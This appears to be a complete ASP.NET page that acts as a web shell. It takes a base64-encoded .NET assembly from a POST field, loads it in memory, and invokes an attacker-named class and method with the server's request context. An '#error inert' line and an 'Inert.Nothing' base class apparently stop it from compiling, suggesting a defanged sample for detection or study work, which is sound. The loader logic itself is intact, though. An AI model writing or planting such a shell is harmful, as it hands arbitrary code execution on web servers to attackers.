<%@ Page Language="C#" Inherits="Inert.Nothing" EnableViewState="false" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
#error inert
protected void Page_Load(object sender, EventArgs e)
{
    string b = Request.Form["doc"];
    if (b == null) return;
    Assembly asm = Assembly.Load(Convert.FromBase64String(b));
    object o = asm.CreateInstance(Request.Form["cls"]);
    o.GetType().GetMethod(Request.Form["fn"]).Invoke(o, new object[] { Context });
}
</script>
